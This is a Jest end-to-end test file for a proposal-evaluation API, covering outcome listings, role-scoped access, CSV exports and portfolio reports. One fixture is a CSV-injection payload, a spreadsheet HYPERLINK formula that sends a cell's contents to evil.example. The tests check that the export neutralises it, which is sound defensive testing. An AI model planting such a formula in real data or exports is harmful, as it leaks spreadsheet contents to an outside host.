import { Client } from 'pg';
import type { ProposalData } from '../../libs/domain';
import { loginAll, type DemoName } from '../support/demo-users';
import { availableTask, meetsAll, waitForStatus } from '../support/evaluation-driver';
import type { ApiClient } from '../support/http-client';
import { hospitalProposal } from '../../libs/domain/src/testing/proposal.factory';
import { startTestStack, type TestStack } from '../support/test-stack';

jest.setTimeout(120_000);

/** A strict RFC 4180 reader: CRLF between records (and after the last), quotes doubled inside quoted fields. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') {
        field += ch;
      } else if (text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else {
        quoted = false;
        if (i + 1 < text.length && text[i + 1] !== ',' && text[i + 1] !== '\r') throw new Error(`text after a closing quote at ${i}`);
      }
    } else if (ch === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`CR without LF at ${i}`);
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else if (ch === '\n') {
      throw new Error(`bare LF outside quotes at ${i}`);
    } else {
      field += ch;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length) throw new Error('the last record is not CRLF-terminated');
  return records;
}

/** The records as objects keyed by the header row. */
function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
}

function localToday(timeZone = 'America/Santiago'): string {
  const parts = new Intl.DateTimeFormat('en-US', { timeZone, year: 'numeric', month: '2-digit', day: '2-digit' }).formatToParts(new Date());
  const part = (type: string) => parts.find((p) => p.type === type)?.value;
  return `${part('year')}-${part('month')}-${part('day')}`;
}

/** A LOW-tier proposal (no public service, no personal data, whole-of-life cost under 50,000,000). */
function lowProposal(title: string, totalCost: number): ProposalData {
  return hospitalProposal({
    title,
    citizenFacing: false,
    handlesPersonalData: false,
    costs: [
      { year: 1, kind: 'CAPEX', category: 'DEVELOPMENT', description: 'Build', amount: totalCost - 5_000_000 },
      { year: 2, kind: 'OPEX', category: 'HOSTING', description: 'Hosting', amount: 5_000_000 },
    ],
  });
}

const TRICKY_TITLE = 'Clinic "Norte", phase 2\nonline booking';
/** A title that would run as a formula in finance's spreadsheet (CSV injection). */
const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A2,"Clinic kiosks")';
const FORMULA_COMMENT = '-No risk assessment, no controls plan';

describe('finance and oversight: outcomes, CSV exports and the portfolio', () => {
  let stack: TestStack;
  let u: Record<DemoName, ApiClient>;
  const today = localToday();
  const year = today.slice(0, 4);
  const ids = { approved: '', rejected: '', withdrawn: '', mineduc: '' };
  const data: Record<keyof typeof ids, ProposalData> = {
    approved: lowProposal(TRICKY_TITLE, 25_000_000),
    rejected: lowProposal('Records archive for clinics', 30_000_000),
    withdrawn: lowProposal(FORMULA_TITLE, 12_000_000),
    mineduc: lowProposal('School library catalogue', 8_000_000),
  };
  let technicalCodes: string[];
  let financeCodes: string[];

  async function submit(who: ApiClient, proposal: ProposalData): Promise<string> {
    const created = await who.post('/proposals', proposal);
    expect(created.status).toBe(201);
    expect(created.body.tier).toBe('LOW');
    expect((await who.post(`/proposals/${created.body.id}/submit`)).status).toBe(202);
    return created.body.id as string;
  }

  async function decide(who: ApiClient, proposalId: string, type: string, body: object): Promise<void> {
    const task = await availableTask(who, proposalId, type);
    const res = await who.post(`/tasks/${task.id}/decision`, body);
    expect({ status: res.status, body: res.body }).toMatchObject({ status: 200 });
  }

  beforeAll(async () => {
    stack = await startTestStack();
    u = await loginAll(stack.baseUrl, ['ana', 'bruno', 'carla', 'elena', 'gabriela', 'hector', 'jorge', 'lucia', 'admin']);
    technicalCodes = meetsAll('TECHNICAL_REVIEW', data.approved, 'LOW').verdicts.map((v) => v.standardCode);
    financeCodes = meetsAll('COST_EFFICIENCY_REVIEW', data.approved, 'LOW').verdicts.map((v) => v.standardCode);

    // Closed one after another, so "newest decided first" is approved, rejected, mineduc, withdrawn.
    ids.withdrawn = await submit(u.ana, data.withdrawn);
    await availableTask(u.carla, ids.withdrawn, 'TECHNICAL_REVIEW');
    expect((await u.ana.post(`/proposals/${ids.withdrawn}/withdraw`, { reason: 'Merged into a shared platform' })).status).toBe(202);

    ids.mineduc = await submit(u.bruno, data.mineduc);
    await availableTask(u.carla, ids.mineduc, 'TECHNICAL_REVIEW');
    expect((await u.bruno.post(`/proposals/${ids.mineduc}/withdraw`, { reason: 'Budget moved' })).status).toBe(202);

    // A mandatory standard NOT_MET allows only an unfavourable technical opinion; the head rejects.
    ids.rejected = await submit(u.ana, data.rejected);
    const technical = meetsAll('TECHNICAL_REVIEW', data.rejected, 'LOW', 'UNFAVOURABLE', { comment: 'No security risk assessment' });
    technical.verdicts = technical.verdicts.map((v) => (v.standardCode === 'SEC-01' ? { ...v, verdict: 'NOT_MET', comment: FORMULA_COMMENT } : v));
    await decide(u.carla, ids.rejected, 'TECHNICAL_REVIEW', technical);
    await decide(u.elena, ids.rejected, 'COST_EFFICIENCY_REVIEW', meetsAll('COST_EFFICIENCY_REVIEW', data.rejected, 'LOW'));
    await decide(u.gabriela, ids.rejected, 'APPROVAL', { decision: 'REJECT', comment: 'Security is not addressed' });
    await waitForStatus(u.ana, ids.rejected, 'REJECTED');

    ids.approved = await submit(u.ana, data.approved);
    await decide(
      u.carla,
      ids.approved,
      'TECHNICAL_REVIEW',
      meetsAll('TECHNICAL_REVIEW', data.approved, 'LOW', 'FAVOURABLE_WITH_CONDITIONS', {
        conditions: [{ text: 'Security sign-off, before go-live', standardCode: 'SEC-02', dueDate: '2099-06-30' }],
      }),
    );
    await decide(u.elena, ids.approved, 'COST_EFFICIENCY_REVIEW', meetsAll('COST_EFFICIENCY_REVIEW', data.approved, 'LOW'));
    await decide(u.gabriela, ids.approved, 'APPROVAL', { decision: 'APPROVE', approvedAmount: 20_000_000, comment: 'Approved at a lower amount' });
    await waitForStatus(u.ana, ids.approved, 'APPROVED_WITH_CONDITIONS');
  });

  afterAll(async () => {
    await stack?.stop();
  });

  describe('GET /outcomes', () => {
    it('lists every closed evaluation, newest decided first, with amounts, cycle days and conditions', async () => {
      const res = await u.lucia.get('/outcomes');
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ total: 4, page: 1, pageSize: 20 });
      const items = res.body.items as Record<string, any>[];
      expect(items.map((i) => i.proposalId)).toEqual([ids.approved, ids.rejected, ids.mineduc, ids.withdrawn]);
      expect(items.map((i) => i.outcome)).toEqual(['APPROVED_WITH_CONDITIONS', 'REJECTED', 'WITHDRAWN', 'WITHDRAWN']);
      const [approved] = items;
      expect(approved).toEqual({
        proposalId: ids.approved,
        title: TRICKY_TITLE,
        agencyCode: 'MINSAL',
        tier: 'LOW',
        outcome: 'APPROVED_WITH_CONDITIONS',
        requestedAmount: 25_000_000,
        approvedAmount: 20_000_000,
        decidedAt: expect.any(String),
        submittedAt: expect.any(String),
        cycleDays: expect.any(Number),
        conditions: [{ text: 'Security sign-off, before go-live', standardCode: 'SEC-02', dueDate: '2099-06-30', source: 'TECHNICAL_REVIEW' }],
        catalogueVersion: '2026.1',
        policyVersion: (await u.lucia.get('/policy')).body.version,
      });
      const days = (Date.parse(approved.decidedAt) - Date.parse(approved.submittedAt)) / 86_400_000;
      expect(approved.cycleDays).toBeCloseTo(Math.round(days * 10) / 10, 5);
      expect(items[1]).toMatchObject({ requestedAmount: 30_000_000, approvedAmount: null, conditions: [] });
    });

    it('filters by outcome, agency, tier, text and decision day, and pages', async () => {
      const list = async (query: string) => ((await u.elena.get(`/outcomes?${query}`)).body.items as { proposalId: string }[]).map((i) => i.proposalId);
      expect(await list('outcome=REJECTED')).toEqual([ids.rejected]);
      expect(await list('agencyCode=MINEDUC')).toEqual([ids.mineduc]);
      expect(await list('tier=HIGH')).toEqual([]);
      expect(await list('tier=LOW')).toHaveLength(4);
      expect(await list('q=norte')).toEqual([ids.approved]);
      expect(await list(`from=${today}&to=${today}`)).toHaveLength(4);
      expect(await list(`from=${Number(year) + 1}-01-01`)).toEqual([]);
      expect(await list(`to=${Number(year) - 1}-12-31`)).toEqual([]);
      const page2 = await u.elena.get('/outcomes?page=2&pageSize=3');
      expect(page2.body).toMatchObject({ total: 4, page: 2, pageSize: 3 });
      expect(page2.body.items.map((i: { proposalId: string }) => i.proposalId)).toEqual([ids.withdrawn]);
    });

    it('refuses bad filters with a 400 naming the field', async () => {
      const field = async (query: string) => {
        const res = await u.elena.get(`/outcomes?${query}`);
        expect(res.status).toBe(400);
        expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
        return (res.body.errors as { field: string }[]).map((e) => e.field);
      };
      expect(await field('from=2026-02-30')).toEqual(['from']);
      expect(await field('to=31-12-2026')).toEqual(['to']);
      expect(await field('from=2026-03-01&to=2026-02-01')).toEqual(['to']);
      expect(await field('pageSize=101')).toEqual(['pageSize']);
      expect(await field('outcome=PENDING')).toEqual(['outcome']);
      expect(await field('tier=low')).toEqual(['tier']);
      expect(await field('colour=red')).toEqual(['colour']);
      expect(await field('q=a%00b')).toEqual(['q']);
    });

    it('holds an agency to its own outcomes and refuses technical reviewers', async () => {
      const ana = await u.ana.get('/outcomes');
      expect(ana.status).toBe(200);
      expect(ana.body.total).toBe(3);
      expect(ana.body.items.map((i: { proposalId: string }) => i.proposalId)).toEqual([ids.approved, ids.rejected, ids.withdrawn]);
      expect((await u.ana.get('/outcomes?agencyCode=MINEDUC')).body).toMatchObject({ total: 0, items: [] });
      const bruno = await u.bruno.get('/outcomes');
      expect(bruno.body.items.map((i: { proposalId: string }) => i.proposalId)).toEqual([ids.mineduc]);
      expect((await u.bruno.get('/outcomes?agencyCode=MINSAL')).body.total).toBe(0);

      for (const path of ['/outcomes', '/outcomes/export.csv', '/outcomes/verdicts.csv', '/reports/portfolio']) {
        const res = await u.carla.get(path);
        expect({ path, status: res.status, code: res.body.code }).toEqual({ path, status: 403, code: 'FORBIDDEN' });
      }
      // An approver who is also a technical reviewer sees them as an approver.
      expect((await u.jorge.get('/outcomes')).body.total).toBe(4);
      expect((await u.admin.get('/outcomes')).body.total).toBe(4);
      expect((await u.hector.get('/outcomes')).body.total).toBe(4);
      const anonymous = await u.ana.as('not-a-token').get('/outcomes');
      expect(anonymous.status).toBe(401);
    });
  });

  describe('CSV exports', () => {
    it('streams one RFC 4180 row per outcome, quoting commas, quotes and newlines', async () => {
      const res = await u.elena.get('/outcomes/export.csv');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="outcomes.csv"');
      const text = res.body as string;
      expect(typeof text).toBe('string');
      expect(text).toContain('"Clinic ""Norte"", phase 2\nonline booking"');
      const [header] = parseCsv(text);
      expect(header).toEqual([
        'proposalId', 'title', 'agencyCode', 'tier', 'outcome', 'requestedAmount', 'approvedAmount', 'submittedAt', 'decidedAt',
        'cycleDays', 'conditionCount', 'conditions', 'catalogueVersion', 'policyVersion',
      ]);
      const rows = csvObjects(text);
      expect(rows.map((r) => r.proposalId)).toEqual([ids.approved, ids.rejected, ids.mineduc, ids.withdrawn]);
      expect(rows[0]).toMatchObject({
        title: TRICKY_TITLE,
        agencyCode: 'MINSAL',
        tier: 'LOW',
        outcome: 'APPROVED_WITH_CONDITIONS',
        requestedAmount: '25000000',
        approvedAmount: '20000000',
        conditionCount: '1',
        conditions: '2099-06-30 [SEC-02] Security sign-off, before go-live (TECHNICAL_REVIEW)',
        catalogueVersion: '2026.1',
      });
      expect(rows[1]).toMatchObject({ title: 'Records archive for clinics', outcome: 'REJECTED', approvedAmount: '', conditionCount: '0', conditions: '' });
      // A title starting with = reaches the spreadsheet as text, never as a live formula.
      expect(rows[3]).toMatchObject({ title: `'${FORMULA_TITLE}`, outcome: 'WITHDRAWN' });
      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Clinic kiosks"")"`);
      const json = (await u.elena.get('/outcomes')).body.items as { decidedAt: string; cycleDays: number }[];
      expect(rows.map((r) => r.decidedAt)).toEqual(json.map((i) => i.decidedAt));
      expect(rows.map((r) => Number(r.cycleDays))).toEqual(json.map((i) => i.cycleDays));
    });

    it('applies the same filters and agency scope, and refuses bad ones as problem+json', async () => {
      expect(csvObjects((await u.elena.get('/outcomes/export.csv?outcome=REJECTED')).body).map((r) => r.proposalId)).toEqual([ids.rejected]);
      expect(csvObjects((await u.ana.get('/outcomes/export.csv')).body).map((r) => r.agencyCode)).toEqual(['MINSAL', 'MINSAL', 'MINSAL']);
      expect(csvObjects((await u.bruno.get('/outcomes/export.csv')).body).map((r) => r.proposalId)).toEqual([ids.mineduc]);
      expect(parseCsv((await u.elena.get(`/outcomes/export.csv?from=${Number(year) + 1}-01-01`)).body)).toHaveLength(1);
      const bad = await u.elena.get('/outcomes/export.csv?from=yesterday');
      expect(bad.status).toBe(400);
      expect(bad.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(bad.body.errors).toEqual([expect.objectContaining({ field: 'from' })]);
      expect((await u.elena.get('/outcomes/export.csv?page=2')).status).toBe(400);
    });

    it('writes one row per standard verdict of the opinions in force', async () => {
      const res = await u.lucia.get('/outcomes/verdicts.csv');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="verdicts.csv"');
      const [header] = parseCsv(res.body);
      expect(header).toEqual(['proposalId', 'title', 'agencyCode', 'outcome', 'reviewType', 'standardCode', 'verdict', 'comment', 'decidedBy', 'decidedAt']);
      const rows = csvObjects(res.body);
      const perProposal = technicalCodes.length + financeCodes.length;
      expect(rows).toHaveLength(2 * perProposal);
      expect(rows.slice(0, perProposal).every((r) => r.proposalId === ids.approved && r.title === TRICKY_TITLE)).toBe(true);
      expect(rows.slice(perProposal).every((r) => r.proposalId === ids.rejected && r.outcome === 'REJECTED')).toBe(true);
      expect(rows.filter((r) => r.proposalId === ids.approved).map((r) => r.standardCode).sort()).toEqual([...technicalCodes, ...financeCodes].sort());
      const notMet = rows.filter((r) => r.verdict === 'NOT_MET');
      expect(notMet).toEqual([
        {
          proposalId: ids.rejected,
          title: 'Records archive for clinics',
          agencyCode: 'MINSAL',
          outcome: 'REJECTED',
          reviewType: 'TECHNICAL_REVIEW',
          standardCode: 'SEC-01',
          verdict: 'NOT_MET',
          comment: `'${FORMULA_COMMENT}`,
          decidedBy: 'carla.rojas@digital.example',
          decidedAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
        },
      ]);
      const finance = rows.find((r) => r.proposalId === ids.rejected && r.reviewType === 'COST_EFFICIENCY_REVIEW');
      expect(finance).toMatchObject({ verdict: 'MEETS', decidedBy: 'elena.vera@hacienda.example' });
      expect(csvObjects((await u.bruno.get('/outcomes/verdicts.csv')).body)).toEqual([]);
    });
  });

  describe('GET /reports/portfolio', () => {
    it('reports this year’s figures, hand-computed for the four outcomes, beside an empty baseline', async () => {
      const res = await u.elena.get(`/reports/portfolio?baselineFrom=2020-01-01&baselineTo=2020-12-31`);
      expect(res.status).toBe(200);
      const report = res.body;
      const figures = {
        outcomes: { total: 4, APPROVED: 0, APPROVED_WITH_CONDITIONS: 1, REJECTED: 1, WITHDRAWN: 2, LAPSED: 0 },
        byAgency: [
          { agencyCode: 'MINEDUC', year: Number(year), requested: 8_000_000, approved: 0, count: 1 },
          { agencyCode: 'MINSAL', year: Number(year), requested: 67_000_000, approved: 20_000_000, count: 3 },
        ],
        approvalRate: 0.5,
        requestedTotal: 75_000_000,
        approvedTotal: 20_000_000,
        cycleDays: { p50: expect.any(Number), p90: expect.any(Number) },
        // In working days: each of the four evaluations measured its own time, well within the 20-day target.
        workingDays: {
          evaluation: { p50: expect.any(Number), p90: expect.any(Number) },
          withAgency: { p50: 0, p90: 0 },
          measured: 4,
          withinTarget: 4,
        },
        stageDays: {
          TECHNICAL_REVIEW: { p50: expect.any(Number), p90: expect.any(Number), count: 2 },
          COST_EFFICIENCY_REVIEW: { p50: expect.any(Number), p90: expect.any(Number), count: 2 },
          APPROVAL: { p50: expect.any(Number), p90: expect.any(Number), count: 2 },
        },
        stageWorkingDays: {
          TECHNICAL_REVIEW: { p50: expect.any(Number), p90: expect.any(Number), count: 2 },
          COST_EFFICIENCY_REVIEW: { p50: expect.any(Number), p90: expect.any(Number), count: 2 },
          APPROVAL: { p50: expect.any(Number), p90: expect.any(Number), count: 2 },
        },
        slaBreaches: { total: 0, byType: { TECHNICAL_REVIEW: 0, COST_EFFICIENCY_REVIEW: 0, APPROVAL: 0 } },
        mostNotMetStandards: [{ standardCode: 'SEC-01', count: 1 }],
        openConditions: {
          count: 1,
          items: [
            {
              proposalId: ids.approved,
              title: TRICKY_TITLE,
              agencyCode: 'MINSAL',
              text: 'Security sign-off, before go-live',
              standardCode: 'SEC-02',
              dueDate: '2099-06-30',
              source: 'TECHNICAL_REVIEW',
            },
          ],
        },
        overdueConditions: { count: 0, items: [] },
      };
      expect(report).toEqual({
        asOf: today,
        timeZone: 'America/Santiago',
        period: { from: `${year}-01-01`, to: `${year}-12-31`, ...figures },
        baseline: {
          from: '2020-01-01',
          to: '2020-12-31',
          outcomes: { total: 0, APPROVED: 0, APPROVED_WITH_CONDITIONS: 0, REJECTED: 0, WITHDRAWN: 0, LAPSED: 0 },
          byAgency: [],
          approvalRate: null,
          requestedTotal: 0,
          approvedTotal: 0,
          cycleDays: { p50: null, p90: null },
          workingDays: { evaluation: { p50: null, p90: null }, withAgency: { p50: null, p90: null }, measured: 0, withinTarget: 0 },
          stageDays: {
            TECHNICAL_REVIEW: { p50: null, p90: null, count: 0 },
            COST_EFFICIENCY_REVIEW: { p50: null, p90: null, count: 0 },
            APPROVAL: { p50: null, p90: null, count: 0 },
          },
          stageWorkingDays: {
            TECHNICAL_REVIEW: { p50: null, p90: null, count: 0 },
            COST_EFFICIENCY_REVIEW: { p50: null, p90: null, count: 0 },
            APPROVAL: { p50: null, p90: null, count: 0 },
          },
          slaBreaches: { total: 0, byType: { TECHNICAL_REVIEW: 0, COST_EFFICIENCY_REVIEW: 0, APPROVAL: 0 } },
          mostNotMetStandards: [],
          openConditions: { count: 0, items: [] },
          overdueConditions: { count: 0, items: [] },
        },
        ...figures,
      });
      expect(report.cycleDays.p90).toBeGreaterThanOrEqual(report.cycleDays.p50);

      const explicit = await u.lucia.get(`/reports/portfolio?from=${year}-01-01&to=${year}-12-31`);
      expect(explicit.body).toEqual({ ...report, baseline: null });
      expect((await u.hector.get('/reports/portfolio')).status).toBe(200);
      expect((await u.admin.get('/reports/portfolio')).status).toBe(200);
    });

    it('is for finance and oversight only, and validates its dates', async () => {
      expect((await u.ana.get('/reports/portfolio')).status).toBe(403);
      expect((await u.bruno.get('/reports/portfolio')).status).toBe(403);
      const field = async (query: string) => ((await u.elena.get(`/reports/portfolio?${query}`)).body.errors as { field: string }[]).map((e) => e.field);
      expect(await field('baselineFrom=2020-01-01')).toEqual(['baselineTo']);
      expect(await field('baselineTo=2020-12-31')).toEqual(['baselineFrom']);
      expect(await field('baselineFrom=2021-01-01&baselineTo=2020-12-31')).toEqual(['baselineTo']);
      expect(await field('from=2026-13-01')).toEqual(['from']);
      expect((await u.elena.get('/reports/portfolio?from=0001-01-01&to=9999-12-31')).body.outcomes.total).toBe(4);
      expect((await u.elena.get(`/reports/portfolio?from=${Number(year) + 1}-01-01`)).body).toMatchObject({
        period: { from: `${Number(year) + 1}-01-01`, to: `${Number(year) + 1}-12-31` },
        outcomes: { total: 0 },
        approvalRate: null,
      });
    });
  });
  describe('exports larger than one page', () => {
    const GENERATED = 1_234;

    beforeAll(async () => {
      // Straight into this stack's database: more closed evaluations than one export page holds.
      const client = new Client({ connectionString: stack.database.url });
      await client.connect();
      try {
        await client.query(
          `INSERT INTO proposals (id, agency_code, created_by, title, data, status, tier, requested_amount, submitted_at, closed_at, outcome)
           SELECT gen_random_uuid(), 'DIPRES', (SELECT id FROM users WHERE email = 'admin@digital.example'), 'Bulk ' || i, '{}'::jsonb, 'REJECTED', 'LOW', i,
                  timestamptz '2001-01-01' + (i / 2) * interval '1 hour', timestamptz '2001-02-01' + (i / 2) * interval '1 hour',
                  jsonb_build_object('status', 'REJECTED', 'requestedAmount', i, 'conditions', '[]'::jsonb,
                    'opinions', jsonb_build_array(jsonb_build_object('type', 'TECHNICAL_REVIEW', 'by', jsonb_build_object('email', 'x@example.test'),
                      'decision', jsonb_build_object('verdicts', jsonb_build_array(jsonb_build_object('standardCode', 'SEC-01', 'verdict', 'MEETS'))))))
           FROM generate_series(1, $1::int) AS i`,
          [GENERATED],
        );
      } finally {
        await client.end();
      }
    });

    it('streams every page in order, with the header once', async () => {
      const res = await u.lucia.get('/outcomes/export.csv?agencyCode=DIPRES');
      expect(res.headers.get('transfer-encoding')).toBe('chunked');
      const rows = csvObjects(res.body);
      expect(rows).toHaveLength(GENERATED);
      expect(rows.filter((r) => r.proposalId === 'proposalId')).toEqual([]);
      const decided = rows.map((r) => r.decidedAt);
      expect([...decided].sort().reverse()).toEqual(decided);
      expect(new Set(rows.map((r) => r.proposalId)).size).toBe(GENERATED);
      expect(rows.reduce((sum, r) => sum + Number(r.requestedAmount), 0)).toBe((GENERATED * (GENERATED + 1)) / 2);

      const verdicts = csvObjects((await u.lucia.get('/outcomes/verdicts.csv?agencyCode=DIPRES&to=2001-12-31')).body);
      expect(verdicts).toHaveLength(GENERATED);
      expect(new Set(verdicts.map((r) => r.proposalId)).size).toBe(GENERATED);
    });

    it('is described in the OpenAPI document', async () => {
      const paths = Object.keys((await u.lucia.get('/docs-json')).body.paths);
      expect(paths).toEqual(expect.arrayContaining(['/api/v1/outcomes', '/api/v1/outcomes/export.csv', '/api/v1/outcomes/verdicts.csv', '/api/v1/reports/portfolio']));
    });
  });
});
